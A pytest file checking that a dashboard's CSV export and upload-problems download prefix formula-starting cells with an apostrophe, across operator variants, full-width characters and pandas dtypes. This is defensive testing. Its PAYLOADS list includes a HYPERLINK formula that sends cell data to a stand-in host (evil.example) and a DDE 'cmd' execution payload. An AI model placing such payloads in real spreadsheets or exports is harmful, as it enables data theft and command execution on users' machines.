"""CSV injection, table-driven over every way a cell can start a formula and every column type a download has:
each such cell is written with a leading apostrophe, everything else byte for byte as it was."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard import export, upload

# The download columns, in order (dashboard/export.figure_rows).
COLUMNS = (
    "figure_id",
    "hub",
    "metric",
    "value",
    "unit",
    "value_formatted",
    "period",
    "kind",
    "scope_note",
    "series",
    "source_publisher",
    "source_date",
    "source_url",
    "quote",
    "user_supplied",
)

# A spreadsheet runs a cell as a formula when it starts with an operator, also after leading white space or a line
# break, and some map the full-width forms onto the ASCII ones.
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " ",
    "\u3000",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\n=",
    "\t+",
    "\r\n@",
    "  -",
    "＝＝",
]
PAYLOADS = ["1+1", 'HYPERLINK("http://evil.example/?x="&A1)', "cmd|' /C calc'!A0", ""]
SAFE = ["1,076억원", "광주 AI 집적단지", "F1", "'already quoted", "(2020)", "A=B", "x-1", "", "a\n=b"]
DTYPES = [object, "string[pyarrow]", "string[python]", "str"]


def _cells(data: bytes, header: bool = True) -> list[list[str]]:
    text = data.decode("utf-8-sig" if header else "utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("dtype", DTYPES, ids=str)
@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_every_formula_start_is_neutralised_in_every_column_type(start, dtype):
    texts = [start + payload for payload in PAYLOADS if start + payload]
    frame = pd.DataFrame({"quote": pd.Series(texts, dtype=dtype), "n": range(len(texts))})
    for header in (True, False):
        rows = _cells(export.to_csv_bytes(frame, "en", translate_headers=False, header=header), header)
        body = rows[1:] if header else rows
        assert [row[0] for row in body] == ["'" + text for text in texts]


@pytest.mark.parametrize("dtype", DTYPES, ids=str)
def test_other_text_is_left_alone(dtype):
    frame = pd.DataFrame({"quote": pd.Series(SAFE, dtype=dtype), "n": range(len(SAFE))})
    rows = _cells(export.to_csv_bytes(frame, "en", translate_headers=False))
    assert [row[0] for row in rows[1:]] == SAFE


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_a_chart_download_neutralises_every_text_column(start):
    """The figure export (names, labels, notes, series, source, quote) as a chart's download button gets it."""
    hostile = start + "1+1"
    row = {
        "figure_id": hostile,
        "hub_name_ko": hostile,
        "hub_name_en": hostile,
        "metric_label_ko": hostile,
        "metric_label_en": hostile,
        "value": -5.0,
        "unit": "firms",
        "period_start": 2022,
        "period_end": 2022,
        "period_start_month": None,
        "period_end_month": None,
        "kind": "actual",
        "scope_note": hostile,
        "series": hostile,
        "publisher": hostile,
        "published": hostile,
        "url": hostile,
        "quote": hostile,
        "user_supplied": True,
    }
    for lang in ("ko", "en"):
        rows = _cells(export.to_csv_bytes(export.figure_rows(pd.DataFrame([row]), lang), lang))
        header, body = rows[0], rows[1]
        texts = {name: cell for name, cell in zip(COLUMNS, body)}
        for name in ("figure_id", "scope_note", "series", "source_publisher", "source_date", "source_url", "quote"):
            assert texts[name] == "'" + hostile, name
        for name in ("hub", "metric"):  # names are shown stripped of white space: neutralised if still needed
            assert texts[name] in ("'" + hostile.strip(), hostile.strip()), name
            assert texts[name].startswith("'") or not texts[name].startswith(export._FORMULA_START), name
        assert texts["value"] == "-5.0"  # a number stays a number
        assert len(header) == len(COLUMNS)


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_neutralise_single_cells(start):
    assert export.neutralise(start + "x") == "'" + start + "x"
    assert export.neutralise(-5.0) == -5.0


@pytest.mark.parametrize("start", ["=", "＠", " +", "\t-"], ids=repr)
def test_the_upload_problems_download_neutralises_each_line(start):
    """The problems list starts each line with the uploaded file's name, which the uploader chose."""
    lines = upload.problems_file([f"{start}cmd.csv:2: figure_id is empty (required)", "ok.csv:3: fine"])
    assert lines.decode("utf-8").splitlines() == [f"'{start}cmd.csv:2: figure_id is empty (required)", "ok.csv:3: fine"]
